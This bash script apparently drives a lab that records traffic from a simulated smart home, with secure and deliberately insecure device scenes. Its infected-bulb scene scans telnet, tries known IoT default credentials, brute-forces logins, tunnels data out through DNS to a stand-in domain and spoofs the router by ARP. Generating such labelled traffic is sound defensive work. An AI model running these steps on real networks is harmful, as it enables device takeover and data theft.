# shellcheck shell=bash disable=SC2153,SC2154  # variables of record-site.sh
# What the devices and people of the site do, scene by scene. Each scene fails when a server did not answer as planned.
# Sourced by record-site.sh.

# expect TEXT COMMAND...: runs a command and demands that its output holds the text.
expect() {
  local text=$1 out; shift
  out=$("$@" 2>&1 | tr -d '\0') || true
  grep -qF -- "$text" <<<"$out" || { printf 'record-site: expected "%s" from: %s\n%s\n' "$text" "$*" "$out" >&2; return 1; }
}

play_scenes() {
  step 'time, local';  for device in lock sensor hub thermostat laptop; do on "$device" ntpdig "$ROUTER_IP" >>"$LOGS/time.log" 2>&1; done
  step 'lock';         play_lock
  step 'sensor';       play_sensor
  step 'thermostat';   play_thermostat
  step 'plugs';        play_plugs
  step 'inverter';     play_inverter
  step 'camera';       play_camera
  step 'operator';     play_operator
  step 'bulb';         play_bulb
}

# Good: MQTT over TLS 1.3 with a client certificate.
play_lock() {
  local tls=(-h mqtt.boltwise.example -p 8883 --cafile "$CERTS/ca.pem" --cert "$CERTS/boltwise-901124.pem"
    --key "$CERTS/boltwise-901124.key" --tls-version tlsv1.3 -i boltwise-901124)
  local n
  for n in 1 2 3; do
    on lock mosquitto_pub "${tls[@]}" -q 1 -t boltwise-901124/state -m "{\"locked\":true,\"n\":$n}"
  done
}

# Good: CoAP over DTLS 1.2 and HTTPS over TLS 1.3, certificates checked.
play_sensor() {
  local n
  for n in 1 2 3; do
    on sensor coap-client-openssl -B 5 -m put -e "{\"co2\":61$n}" -c "$CERTS/airnode-6a3325.pem" -j "$CERTS/airnode-6a3325.key" \
      -C "$CERTS/ca.pem" "coaps://coap.airnode.example/room" >>"$LOGS/sensor-coap.log" 2>&1
    expect accepted on sensor curl -sS --tlsv1.3 --cacert "$CERTS/ca.pem" -A 'AirNode/2.4' -d "{\"co2\":61$n}" https://ingest.airnode.example/v1.cgi
  done
}

# Bad: clear MQTT with a password, everything subscribed, TLS 1.0 with RSA key exchange, data to an expired certificate.
play_thermostat() {
  local cloud=(-h mqtt.warmly.example -V 311 -i warmly-520b21 -u warmly-520b21 -P 'h3ating-4-all') n
  local listener
  on thermostat timeout 6 mosquitto_sub "${cloud[@]}" -v -t '#' >"$LOGS/thermostat-sub.log" 2>&1 &
  listener=$!
  sleep 1
  for n in 1 2 3; do
    on thermostat mosquitto_pub "${cloud[@]}" -i "warmly-520b21-p$n" -q 1 -t warmly-520b21/temperature -m "21.$n"
    expect accepted on thermostat sh -c "printf 'GET /report HTTP/1.0\r\n\r\n' | OPENSSL_CONF=/dev/null openssl s_client \
      -connect legacy.warmly.example:443 -servername legacy.warmly.example -tls1 -cipher 'AES128-SHA:@SECLEVEL=0' -quiet -ign_eof"
    expect accepted on thermostat curl -sSk --tls-max 1.2 -A 'Warmly/2.1' -d '{"heating":true}' "https://$(field hub 4).lan/report.cgi"
  done
  wait "$listener" || true
  grep -q temperature "$LOGS/thermostat-sub.log"
}

# Bad: telemetry in clear, one DTLS identity for all plugs. (Their shared keys show when the operator visits them.)
play_plugs() {
  local name
  for name in plug1 plug2; do
    expect accepted on "$name" curl -sS -A 'GlowPlug/1.2' -H 'Content-Type: application/json' \
      -d "{\"id\":\"$(field "$name" 4)\",\"watt\":42.5}" http://telemetry.glowplug.example/v1.cgi
    on "$name" coap-client-openssl -B 5 -m put -e 'watt=42.5' -u glowplug-fleet -k 'glow-in-the-dark' \
      "coaps://coap.glowplug.example/$name" >>"$LOGS/$name-coaps.log" 2>&1
  done
  on plug2 mosquitto_pub -h "$(address inverter)" -V 5 -i "$(field plug2 4)" -t plug2/watt -m 42.5
}

# Bad: an anonymous client of a clear cloud broker, a cipher suite without encryption, DTLS 1.0, IPv6 past the segment,
# and a home-made MQTT client that sends the quality of service 3, which does not exist, so that the broker hangs up.
play_inverter() {
  on inverter mosquitto_pub -h mqtt.warmly.example -V 31 -i sunbox-b40728 -t sunbox/power -m 2310
  expect accepted on inverter sh -c "printf 'GET /report HTTP/1.0\r\n\r\n' | OPENSSL_CONF=/dev/null openssl s_client \
    -connect cloud.sunbox.example:8443 -tls1_2 -cipher 'ECDHE-RSA-NULL-SHA:@SECLEVEL=0' -quiet -ign_eof"
  on inverter sh -c "{ echo power=2310; sleep 1; } | OPENSSL_CONF=/dev/null timeout 4 openssl s_client -dtls1 \
    -connect cloud.sunbox.example:4433 -cipher 'ECDHE-RSA-AES128-SHA:@SECLEVEL=0'" >"$LOGS/inverter-dtls.log" 2>&1 || true
  grep -q 'Protocol *: DTLSv1$' "$LOGS/inverter-dtls.log"
  expect export_limit on inverter curl -sS -A 'SunBox/3.0' http://cloud6.sunbox.example/grid.json
  local n
  for n in 1 2 3; do
    # shellcheck disable=SC2016  # bash reads the escapes
    on inverter bash -c '{ printf "\x10\x1a\x00\x04MQTT\x04\x02\x00\x3c\x00\x0esunbox-b40728m"; sleep 0.2
      printf "\x36\x09\x00\x03s/p\x00\x01ok"; sleep 0.2; } | busybox nc mqtt.warmly.example 1883' >/dev/null || true
  done
  [ "$(grep -c 'sunbox-b40728m disconnected due to' "$LOGS/internet-mqtt-cloud.log")" -eq 3 ]
}

# Bad: firmware in clear, time from an unlisted server, a hole in the router's packet filter that a stranger uses.
play_camera() {
  expect 200 on camera curl -sS -A 'PeekCam-Updater/1.0' -o "$RUN/download" -w '%{http_code}' http://firmware.peekcam.example/peekcam-1.0.4.bin
  cmp -s "$RUN/download" "$WWW/firmware/peekcam-1.0.4.bin"
  on camera ntpdig time.peekcam.example >>"$LOGS/time.log" 2>&1
  expect 'is redirected to internal' on camera upnpc -e 'PeekCam web' -a "$(address camera)" 80 8080 tcp
  expect PeekCam ip netns exec internet curl -sS --interface "$INTRUDER" "http://$ROUTER_WAN:8080/config.html"
}

# The operator's day: logs in everywhere, shops a little.
play_operator() {
  local camera plug name hub hub6
  camera=$(address camera); hub=$(address hub)
  hub6=$(ip -n hub -6 -o addr show dev eth0 scope global | awk '/fd50/ { sub("/.*", "", $4); print $4; exit }')
  on laptop python3 "$here/record/ssdp.py" search "$(address laptop)" >"$LOGS/laptop-ssdp.log"
  expect serialNumber on laptop curl -sS "http://$camera/description.xml"
  on laptop dig +short +time=1 +tries=1 -p 5353 @224.0.0.251 _homehub._tcp.local PTR >"$LOGS/laptop-mdns.log" 2>&1 || true
  expect '# ' on laptop "$here/record/telnet-login.sh" root xc3511 "$camera"
  expect ssid on laptop curl -sS "http://$camera/config.html"
  expect '"firmware":"1.0.3"' on laptop curl -sS "http://$camera/api/config.json"
  expect administration on laptop curl -sS -u admin:admin "http://$camera/admin/"
  expect true on laptop curl -sS -c "$RUN/cookies" -d 'user=admin&password=admin' "http://$camera/login.cgi"
  expect viewer on laptop curl -sS -b "$RUN/cookies" "http://$camera/users.cgi"
  on laptop curl -sS -u admin:admin -o /dev/null "ftp://$camera/snapshot.jpg"
  expect 'export limit' on laptop curl -sS -u admin:admin "http://$(address inverter)/"

  expect password on laptop curl -sS "http://$hub/"
  expect Rooms on laptop curl -sS --digest -u 'owner:Quiet-Otter-Lamp-19' "http://$hub/settings/"
  on laptop env DROPBEAR_PASSWORD=Quiet-Otter-Lamp-19 HOME="$RUN" dbclient -y -y "root@$hub6" true >>"$LOGS/laptop-ssh.log" 2>&1
  for name in plug1 plug2; do
    plug=$(address "$name")
    on laptop env DROPBEAR_PASSWORD="$name-Yz81" HOME="$RUN" dbclient -y -y "root@$plug" true >>"$LOGS/laptop-ssh.log" 2>&1
    expect watt on laptop env OPENSSL_CONF=/dev/null curl -sSk --ciphers 'DEFAULT@SECLEVEL=0' "https://$plug/status"
    on laptop coap-client-notls -B 3 "coap://$plug/.well-known/core" >>"$LOGS/laptop-coap.log" 2>&1
    on laptop coap-client-notls -B 3 -m put -e '{"on":true}' "coap://$plug/relay" >>"$LOGS/laptop-coap.log" 2>&1
    expect '"on":true' on laptop coap-client-notls -B 3 "coap://$plug/relay"
  done
  for name in 1 2 3; do
    expect Welcome on laptop curl -sS --cacert "$CERTS/ca.pem" --http1.1 "https://www.shop.example/?visit=$name"
  done
  expect "$SHOP" on laptop kdig +short +tls-ca="$CERTS/ca.pem" +tls-hostname=dns.resolver.example "@$RESOLVER" www.shop.example
}

# Infected: sweeps port 23, guesses passwords, moves data out through DNS, and at last poses as the router.
play_bulb() {
  local n camera jobs=(); camera=$(address camera)
  on bulb python3 "$here/record/scan.py" 203.0.113 130
  on bulb "$here/record/telnet-login.sh" root vizxv "$camera" >"$LOGS/bulb-telnet.log" 2>&1 &
  jobs+=($!)
  for n in {1..26}; do
    expect 401 on bulb curl -sS -o /dev/null -w '%{http_code}' -d "user=admin&password=guess$n" "http://$camera/login.cgi"
  done
  for n in {1..12}; do
    expect 530 on bulb curl -sS -v -u "admin:ftp-guess$n" "ftp://$camera/" &
    jobs+=($!)
    sleep 0.5
  done
  for n in {1..40}; do
    expect '"ok"' on bulb dig +short +tries=2 "@$ROUTER_IP" TXT "$(head -c 35 /dev/urandom | base32 -w0 | tr '[:upper:]' '[:lower:]').$n.t.lumo-sync.example"
  done
  for n in "${jobs[@]}"; do wait "$n"; done
  on laptop ping -c 1 -q "$ROUTER_IP" >/dev/null
  on bulb python3 "$here/record/arp_claim.py" "$ROUTER_IP" "$(address laptop)" "$(field laptop 2)" &
  on laptop ping -c 2 -q -W 1 "$ROUTER_IP" >"$LOGS/laptop-ping.log" 2>&1 || true
  sleep 1
  ip netns exec router arping -q -A -c 2 -I lan0 "$ROUTER_IP" >/dev/null
  on laptop ping -c 1 -q -W 2 "$ROUTER_IP" >/dev/null
}
